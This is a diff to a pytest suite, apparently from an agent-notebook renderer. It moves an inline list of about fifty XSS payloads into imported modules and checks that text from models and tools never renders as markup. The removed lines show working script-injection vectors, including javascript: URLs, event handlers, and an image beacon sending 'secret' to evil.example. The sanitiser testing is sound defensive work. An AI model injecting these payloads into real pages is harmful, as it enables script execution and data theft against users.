@@ -12,59 +12,8 @@ from trees import Page, call, citation, failed_call, failure, html_of, payload, 
 from nbagents.notebook.cards import tool_card, tool_list
 from nbagents.notebook.frozen import frozen_bundle
 from nbagents.tools.tool import Tool
-
-VECTORS = [
-    "<script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<img src='x' onerror='alert(1)'/>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<iframe src=javascript:alert(1)></iframe>",
-    '<iframe srcdoc="<script>alert(1)</script>">',
-    "<a href=javascript:alert(1)>x</a>",
-    '" onmouseover="alert(1)',
-    "' onfocus='alert(1)' autofocus='",
-    "`onclick=alert(1)`",
-    "</pre></details><script>alert(1)</script>",
-    "</summary><b onclick=alert(1)>x</b>",
-    "</textarea><img src=x onerror=alert(1)>",
-    "<style>body{display:none}</style>",
-    '<div style="background:url(javascript:alert(1))">',
-    '<form action="https://evil.example"><input name=q></form>',
-    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-    '<base href="https://evil.example/">',
-    "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>",
-    "<math><mtext></mtext><script>alert(1)</script></math>",
-    "<details open ontoggle=alert(1)>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?php echo 1 ?>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;img src=x onerror=alert(1)&#62;",
-    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
-    "<IMG SRC=JaVaScRiPt:alert(1)>",
-    "<x onclick=alert(1) tabindex=0>",
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt&colon;alert(1))",
-    "[click](java\nscript:alert(1))",
-    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[click](vbscript:msgbox(1))",
-    '[click](https://a.example "x\\" onclick=alert(1) ")',
-    '[click](https://a.example"onclick="alert(1))',
-    "[r]\n\n[r]: javascript:alert(1)",
-    "![x](https://evil.example/?q=secret)",
-    "![x](javascript:alert(1))",
-    '![" onerror="alert(1)](https://a.example)',
-    "<https://a.example/onclick=alert(1)>",
-    "<javascript:alert(1)>",
-    "```<script>\nalert(1)\n```",
-    "| <b onclick=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
-    "# <script>alert(1)</script>",
-    "> <img src=x onerror=alert(1)>",
-    "$\\href{javascript:alert(1)}{x}$",
-]
+from tests.hostile import hostile_tree
+from tests.xss import CLASSES, VECTORS
 
 
 def told(text: str) -> list[dict[str, Any]]:
@@ -144,15 +93,34 @@ def everywhere(text: str) -> dict[str, Any]:
     return tree(outer, inner)
 
 
-@pytest.mark.parametrize("vector", VECTORS)
-def test_what_a_model_wrote_is_never_markup(vector: str) -> None:
-    page = Page(html_of(frozen_bundle(everywhere(vector), "run-1")))
-    assert refused(page.elements) == []
-    assert page.open_tags == []
+@pytest.mark.parametrize("of", CLASSES)
+def test_what_a_model_wrote_is_never_markup(of: str) -> None:
+    for vector in CLASSES[of]:
+        page = Page(html_of(frozen_bundle(everywhere(vector), "run-1")))
+        assert refused(page.elements) == [], vector
+        assert page.open_tags == [], vector
 
 
-@pytest.mark.parametrize("vector", VECTORS)
-def test_what_a_tool_says_of_itself_is_never_markup(vector: str) -> None:
+@pytest.mark.parametrize("of", CLASSES)
+def test_payloads_of_every_kind_are_never_markup(of: str) -> None:
+    for vector in CLASSES[of]:
+        hostile = hostile_tree(vector)
+        page = Page(html_of(frozen_bundle(hostile, hostile["root_ids"][0])))
+        assert refused(page.elements) == [], vector
+        assert page.open_tags == [], vector
+
+
+@pytest.mark.parametrize("of", CLASSES)
+def test_what_a_tool_says_of_itself_is_never_markup(of: str) -> None:
+    for vector in CLASSES[of]:
+        for page in pages_of_a_tool(vector):
+            assert refused(page.elements) == [], vector
+            assert page.open_tags == [], vector
+
+
+def pages_of_a_tool(vector: str) -> list[Page]:
+    """The cards of a tool that says this of itself."""
+
     def function(arguments: dict[str, Any]) -> None:
         """Takes anything."""
 
@@ -161,14 +129,11 @@ def test_what_a_tool_says_of_itself_is_never_markup(vector: str) -> None:
         "properties": {vector: {"enum": [vector], "default": vector, "description": vector}},
     }
     tool = Tool.from_schema("trick", vector, schema, function)
-    for bundle in (tool_card(tool), tool_list([tool])):
-        page = Page(html_of(bundle))
-        assert refused(page.elements) == []
-        assert page.open_tags == []
+    return [Page(html_of(bundle)) for bundle in (tool_card(tool), tool_list([tool]))]
 
 
 def test_there_are_enough_tries() -> None:
-    assert len(set(VECTORS)) >= 30
+    assert len(set(VECTORS)) >= 100
 
 
 def test_a_text_is_shown_as_it_was_written() -> None:
